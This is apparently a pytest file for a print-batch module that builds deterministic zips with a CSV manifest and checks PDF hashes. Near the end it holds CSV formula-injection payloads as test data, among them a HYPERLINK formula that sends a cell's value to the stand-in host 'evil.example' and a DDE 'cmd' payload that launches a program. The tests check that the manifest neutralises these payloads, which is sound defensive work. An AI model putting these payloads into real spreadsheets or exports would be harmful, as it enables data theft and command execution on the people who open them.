"""Print batches: stable ids, reproducible zips, the manifest, and PDFs checked against their hash."""

from __future__ import annotations

import csv
import hashlib
import io
import zipfile
from pathlib import Path

import pytest

from include.dijlepost.printhouse.batch import (
    MANIFEST_COLUMNS,
    BatchIntegrityError,
    BatchLetter,
    address_lines,
    batch_id_for,
    build_batch_zip,
    postage_class_for,
)


def make_letter(
    tmp_path: Path,
    letter_id: str,
    pages: int = 3,
    registered: bool = False,
    lines: tuple[str, ...] = ("Jan Peeters", "Grote Markt 21", "2800 Mechelen"),
    country: str = "BE",
) -> BatchLetter:
    pdf = tmp_path / "pdf" / f"{letter_id}.pdf"
    pdf.parent.mkdir(exist_ok=True)
    pdf.write_bytes(b"%PDF-1.7\n" + letter_id.encode() * 1000 + b"\n%%EOF\n")
    return BatchLetter(
        letter_id=letter_id,
        pdf_path=pdf,
        pdf_sha256=hashlib.sha256(pdf.read_bytes()).hexdigest(),
        pages=pages,
        postage_class=postage_class_for(registered),
        registered=registered,
        address_lines=lines,
        country=country,
    )


def test_batch_id_is_stable_and_ignores_order():
    first = batch_id_for("finance", "non_prior", ["L-3", "L-1", "L-2"])
    assert first == batch_id_for("finance", "non_prior", ["L-1", "L-2", "L-3"])
    assert first.startswith("finance-non_prior-") and len(first.rsplit("-", 1)[1]) == 16
    assert first != batch_id_for("finance", "non_prior", ["L-1", "L-2"])
    assert first != batch_id_for("finance", "prior", ["L-1", "L-2", "L-3"])
    assert first != batch_id_for("gas", "non_prior", ["L-1", "L-2", "L-3"])


@pytest.mark.parametrize(
    "department, postage, ids",
    [
        ("finance", "non_prior", []),
        ("finance", "non_prior", ["L-1", "L-1"]),
        ("finance", "express", ["L-1"]),
        ("../etc", "non_prior", ["L-1"]),
    ],
)
def test_batch_id_rejects_bad_input(department, postage, ids):
    with pytest.raises(ValueError):
        batch_id_for(department, postage, ids)


def test_postage_class_for():
    assert postage_class_for(False) == "non_prior"
    assert postage_class_for(False, default="prior") == "prior"
    assert postage_class_for(True, default="prior") == "registered"
    with pytest.raises(ValueError):
        postage_class_for(False, default="registered")


def test_address_lines_home_and_abroad():
    assert address_lines(" Jan Peeters ", "Grote Markt 21", "2800", "Mechelen", "BE") == (
        "Jan Peeters",
        "Grote Markt 21",
        "2800 Mechelen",
    )
    assert address_lines("Anna de Vries", "Dorpsstraat 1", "1234 AB", "Utrecht", "nl") == (
        "Anna de Vries",
        "Dorpsstraat 1",
        "1234 AB Utrecht",
        "NEDERLAND",
    )
    assert address_lines("Max Muster", "Hauptstr. 5", "52062", "Aachen", "DE")[-1] == "DUITSLAND"
    with pytest.raises(ValueError, match="country"):
        address_lines("X", "Y 1", "1000", "Z", "ZZ")
    with pytest.raises(ValueError, match="country"):
        address_lines("X", "Y 1", "1000", "Z", "EU")
    with pytest.raises(ValueError):
        address_lines("", "Grote Markt 21", "2800", "Mechelen", "BE")


def test_zip_is_deterministic(tmp_path):
    letters = [make_letter(tmp_path, f"FIN-{i:04d}") for i in range(5)]
    batch_id = batch_id_for("finance", "non_prior", [letter.letter_id for letter in letters])
    first = build_batch_zip(batch_id, letters, tmp_path / "a")
    second = build_batch_zip(batch_id, list(reversed(letters)), tmp_path / "b")
    assert first.path.read_bytes() == second.path.read_bytes()
    assert first.sha256 == second.sha256 == hashlib.sha256(first.path.read_bytes()).hexdigest()
    assert first.size == first.path.stat().st_size
    assert first.letter_count == 5
    assert first.path.name == f"{batch_id}.zip"
    # Rebuilding over an existing file gives the same bytes, and no temp file is left behind.
    again = build_batch_zip(batch_id, letters, tmp_path / "a")
    assert again.sha256 == first.sha256
    assert sorted(p.name for p in (tmp_path / "a").iterdir()) == [f"{batch_id}.zip"]


def test_zip_contents_and_manifest(tmp_path):
    home = make_letter(tmp_path, "FIN-0002", pages=3)
    abroad = make_letter(
        tmp_path,
        "FIN-0001",
        pages=4,
        registered=True,
        lines=address_lines("Anna de Vries", "Dorpsstraat 1", "1234 AB", "Utrecht", "NL"),
        country="NL",
    )
    built = build_batch_zip("finance-registered-x", [home, abroad], tmp_path / "out")

    with zipfile.ZipFile(built.path) as zf:
        assert zf.namelist() == ["FIN-0001.pdf", "FIN-0002.pdf", "manifest.csv"]
        assert zf.read("FIN-0002.pdf") == home.pdf_path.read_bytes()
        rows = list(csv.DictReader(io.StringIO(zf.read("manifest.csv").decode("utf-8"))))
        header = zf.read("manifest.csv").decode().splitlines()[0].split(",")

    assert tuple(header) == MANIFEST_COLUMNS
    assert MANIFEST_COLUMNS[-1] == "country" and "address_line_6" in MANIFEST_COLUMNS
    assert rows[0] == {
        "letter_id": "FIN-0001",
        "file_name": "FIN-0001.pdf",
        "sha256": abroad.pdf_sha256,
        "pages": "4",
        "sheets": "2",
        "postage_class": "registered",
        "registered": "true",
        "address_line_1": "Anna de Vries",
        "address_line_2": "Dorpsstraat 1",
        "address_line_3": "1234 AB Utrecht",
        "address_line_4": "NEDERLAND",
        "address_line_5": "",
        "address_line_6": "",
        "country": "NL",
    }
    assert (rows[1]["pages"], rows[1]["sheets"], rows[1]["registered"]) == ("3", "2", "false")
    assert rows[1]["address_line_3"] == "2800 Mechelen" and rows[1]["address_line_4"] == ""


def test_sha_mismatch_is_refused_and_leaves_no_file(tmp_path):
    good = make_letter(tmp_path, "FIN-0001")
    tampered = make_letter(tmp_path, "FIN-0002")
    tampered.pdf_path.write_bytes(b"%PDF-1.7\nsomething else\n%%EOF\n")
    with pytest.raises(BatchIntegrityError, match="FIN-0002"):
        build_batch_zip("finance-non_prior-x", [good, tampered], tmp_path / "out")
    assert list((tmp_path / "out").iterdir()) == []


def test_letter_validation(tmp_path):
    letter = make_letter(tmp_path, "FIN-0001")
    with pytest.raises(ValueError, match="safe file name"):
        BatchLetter(**{**letter.__dict__, "letter_id": "../FIN"})
    with pytest.raises(ValueError, match="disagree"):
        BatchLetter(**{**letter.__dict__, "registered": True})
    with pytest.raises(ValueError, match="address lines"):
        BatchLetter(**{**letter.__dict__, "address_lines": tuple("abcdefg")})
    with pytest.raises(ValueError, match="twice"):
        build_batch_zip("finance-non_prior-x", [letter, letter], tmp_path / "out")


# A name or street as a department system may have sent it before the import refused such values.
HOSTILE = {
    "FIN-0101": '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "FIN-0102": "+32 15 29 76 00",
    "FIN-0103": "-2+3",
    "FIN-0104": "@SUM(1+1)*cmd|' /C calc'!A0",
    "FIN-0105": "\t=1+1",
    "FIN-0106": "\r=1+1",
    "FIN-0107": "Bruul 1\nbus 2\r\nEerste verdiep\u2028links\u0085achter",
}


def spreadsheet_cell(raw: str) -> tuple[bool, str]:
    """How a spreadsheet opening the CSV takes a cell: (is a formula, what it shows). A leading
    apostrophe marks text and is not shown; `=`, `+`, `-` and `@` start a formula, also after the tab
    or carriage return or spaces some spreadsheets skip (the cases OWASP lists)."""
    if raw.startswith("'"):
        return False, raw[1:]
    return raw.lstrip("\t\r ").startswith(("=", "+", "-", "@")), raw


def test_the_manifest_is_data_for_a_csv_reader_a_line_reader_and_a_spreadsheet(tmp_path):
    letters = [
        make_letter(tmp_path, lid, lines=(name, "Grote Markt 21", "2800 Mechelen"))
        for lid, name in HOSTILE.items()
    ]
    built = build_batch_zip("finance-non_prior-x", letters, tmp_path / "out")
    with zipfile.ZipFile(built.path) as zf:
        data = zf.read("manifest.csv").decode("utf-8")

    physical = data.split("\r\n")  # CRLF ends a record; nothing else may end a line
    assert physical[-1] == "" and len(physical) == 1 + len(HOSTILE) + 1
    assert not any(ch in line for line in physical for ch in "\n\r\u2028\u2029\u0085")
    assert all(len(line.splitlines()) == 1 for line in physical[:-1])  # also for str.splitlines()

    rows = list(csv.DictReader(io.StringIO(data, newline="")))
    assert [r["letter_id"] for r in rows] == sorted(HOSTILE)
    for row in rows:
        for column, cell in row.items():
            formula, shown = spreadsheet_cell(cell)
            assert not formula, (row["letter_id"], column, cell)
            assert not any(ord(ch) < 32 or 0x7F <= ord(ch) <= 0x9F for ch in cell), (column, cell)
        name = HOSTILE[row["letter_id"]]
        shown = spreadsheet_cell(row["address_line_1"])[1]
        if row["letter_id"] == "FIN-0107":
            assert shown == "Bruul 1 bus 2 Eerste verdiep links achter"  # one line, words kept
        else:
            assert shown.lstrip() == name.lstrip("\t\r")  # the text itself, shown as text
            assert row["address_line_1"].startswith("'")
    ordinary = make_letter(tmp_path, "FIN-0200")
    built = build_batch_zip("finance-non_prior-y", [ordinary], tmp_path / "out2")
    with zipfile.ZipFile(built.path) as zf:
        row = next(csv.DictReader(io.StringIO(zf.read("manifest.csv").decode("utf-8"), newline="")))
    assert row["address_line_1"] == "Jan Peeters"  # an ordinary cell is left as it is
